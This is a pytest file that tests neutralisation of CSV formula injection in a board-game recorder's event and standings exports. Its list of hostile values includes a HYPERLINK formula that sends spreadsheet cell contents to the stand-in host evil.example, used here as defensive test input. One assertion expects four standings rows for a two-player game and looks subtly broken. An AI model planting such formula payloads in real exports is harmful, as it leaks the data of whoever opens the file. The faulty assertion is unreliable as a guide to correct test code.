"""CSV formula injection (issue 22.5): text a player typed is text in a spreadsheet.

Each column that can hold user text gets a game recorded through the API with a
hostile value, read back with the csv module: the cell is the value behind one
quote, never a formula.  Numbers the project wrote stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from recorder.exports.csv_cells import neutralise, recorded_text
from recorder.exports.game_tables import events_csv, standings_csv
from tests.recorder.test_api import PANIC, post_event

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [HYPERLINK, "=1+1", "+Cy", "-2+3", "@SUM(A1)", "  =1+1", "\tTab", "\rReturn", "'=already quoted"]


def hostile_game(client: Any, first: str) -> dict[str, Any]:
    """A Panic in the Air game whose first seat (the one to act) is named ``first``."""
    response = client.post("/api/games", json={"engine": PANIC, "players": [{"name": n} for n in (first, "Ben")]})
    assert response.status_code == 201, response.get_json()
    return response.get_json()  # type: ignore[no-any-return]


def table(client: Any, game: dict[str, Any], name: str) -> list[dict[str, str]]:
    response = client.get(f"/api/games/{game['id']}/export?format=csv&table={name}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def quoted(value: str) -> str:
    return "'" + value


@pytest.mark.parametrize("name", HOSTILE)
def test_a_player_name_in_the_events_actor_column_is_text(client: Any, name: str) -> None:
    game = hostile_game(client, name)
    assert post_event(client, game, {"type": "card_drawn"}).status_code == 201
    [row] = table(client, game, "events")
    assert row["actor"] == quoted(name) and recorded_text(row["actor"]) == name


def test_a_describe_line_that_begins_with_a_name_is_text(client: Any) -> None:
    game = hostile_game(client, HYPERLINK)
    assert post_event(client, game, {"type": "card_drawn"}).status_code == 201
    [row] = table(client, game, "events")
    assert row["describe"].startswith(quoted(HYPERLINK) + " drew a card")


@pytest.mark.parametrize("reason", ["=1+1", "+A1", "-1+1", "@A1", " =1+1", "\t=1+1", "\r=1+1"])
def test_an_override_reason_is_text(client: Any, reason: str) -> None:
    game = hostile_game(client, "Ana")
    # Ben draws out of turn: a violation the table lets stand, with its reason.
    response = post_event(client, game, {"type": "card_drawn", "actor": "Ben", "override": {"reason": reason}})
    assert response.status_code == 201, response.get_json()
    [row] = table(client, game, "events")
    assert row["override"] == quoted(reason) and row["flags"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_player_name_in_the_standings_player_column_is_text(client: Any, name: str) -> None:
    game = hostile_game(client, name)
    rows = table(client, game, "standings")
    assert [row["player"] for row in rows] == [quoted(name), "Ben"]


def test_the_cli_writes_the_same_neutralised_csv(client: Any, runner: Any) -> None:
    game = hostile_game(client, "=1+1")
    result = runner.invoke(args=["export", game["id"], "--format", "csv", "--table", "standings"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert rows[0]["player"] == "'=1+1"


def test_a_name_that_is_only_a_number_and_plain_text_stay_as_typed(client: Any) -> None:
    response = client.post("/api/games", json={"engine": PANIC, "players": [{"name": "-3"}, {"name": "-3+Ben"}]})
    game = response.get_json()
    assert post_event(client, game, {"type": "card_drawn", "actor": "-3+Ben", "override": {"reason": "Ana - 3 late"}})
    rows = table(client, game, "standings")
    assert [row["player"] for row in rows] == ["-3", "'-3+Ben"] * 2
    assert table(client, game, "events")[0]["override"] == "Ana - 3 late"


def test_the_position_column_and_every_other_text_cell_go_through_the_same_rule() -> None:
    # No engine's position label begins with a player's name today; the column is still guarded.
    entry = {"kind": "event", "step": 1, "seq": 1, "actor": "Ann", "type": "card_drawn", "describe": "Ann drew",
             "position": {"round": 1, "turn": 1, "label": "=Ann's turn"}, "flags": [], "override": None}
    [row] = csv.DictReader(io.StringIO(events_csv("g1", [entry])))
    assert row["position"] == "'=Ann's turn"


def test_standings_numbers_stay_numbers_and_text_breakdowns_and_headers_are_text() -> None:
    standings = {"players": [{"player": "Ann", "rank": 2, "total": -3, "status": "@out",
                              "breakdown": {"=score": -3.5, "note": "-see rules"}}]}
    text = standings_csv("g1", [(0, standings)])
    header, line = text.splitlines()
    assert header.endswith(",'=score,note") and line == "g1,0,Ann,2,-3,'@out,-3.5,'-see rules"


def test_the_rule_leaves_non_text_alone_and_one_quote_always_comes_off() -> None:
    assert [neutralise(v) for v in (-3, -2.5, True, None, "", " ", "Ann", "-", "1e5", "-.5")] == [
        -3, -2.5, True, None, "", " ", "Ann", "'-", "1e5", "-.5"]
    for value in [*HOSTILE, "'tis", "''=x", "'", "-3", "Ann"]:
        assert recorded_text(str(neutralise(value))) == value
